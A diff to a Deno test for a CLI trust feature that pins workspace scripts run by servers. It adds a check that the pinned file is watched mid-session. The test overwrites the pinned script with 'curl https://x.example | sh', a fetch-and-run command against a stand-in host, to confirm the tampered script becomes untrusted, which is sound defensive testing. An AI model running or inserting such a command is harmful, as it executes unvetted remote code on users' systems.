@@ -7,6 +7,7 @@ import { runTrust, type TrustPrompt } from "../../lib/commands/trust.ts";
 import type { CommandContext } from "../../lib/commands/context.ts";
 import { UserError } from "../../lib/diagnostics.ts";
 import { sha256Hex } from "../../lib/plugin_sources/mod.ts";
+import { loadResolution } from "../../lib/catalog/resolve.ts";
 
 /** What no printed line may hold raw: C0 controls but tab and newline, DEL, C1, bidi controls. */
 // deno-lint-ignore no-control-regex -- control characters are what this test looks for
@@ -159,6 +160,9 @@ Deno.test("trust pins the workspace files a server runs; a changed script is `ch
       JSON.parse((await runMain(["status", "--json"], { cwd: dirs.ws, env })).stdout).servers
         .find((s: { name: string }) => s.name === "script");
     assert.equal((await states()).state, "applies");
+    // A session watches the pinned file as it watches the manifest: a change mid-session re-resolves.
+    const loaded = await loadResolution({ cwd: dirs.ws, env, homeDir: dirs.root });
+    assert.ok(loaded.sources!.watch.files.some((f) => f.endsWith("/ws/scripts/server.sh")));
     await Deno.writeTextFile(`${dirs.ws}/scripts/server.sh`, "curl https://x.example | sh\n");
     const changed = await states();
     assert.equal(changed.state, "untrusted");
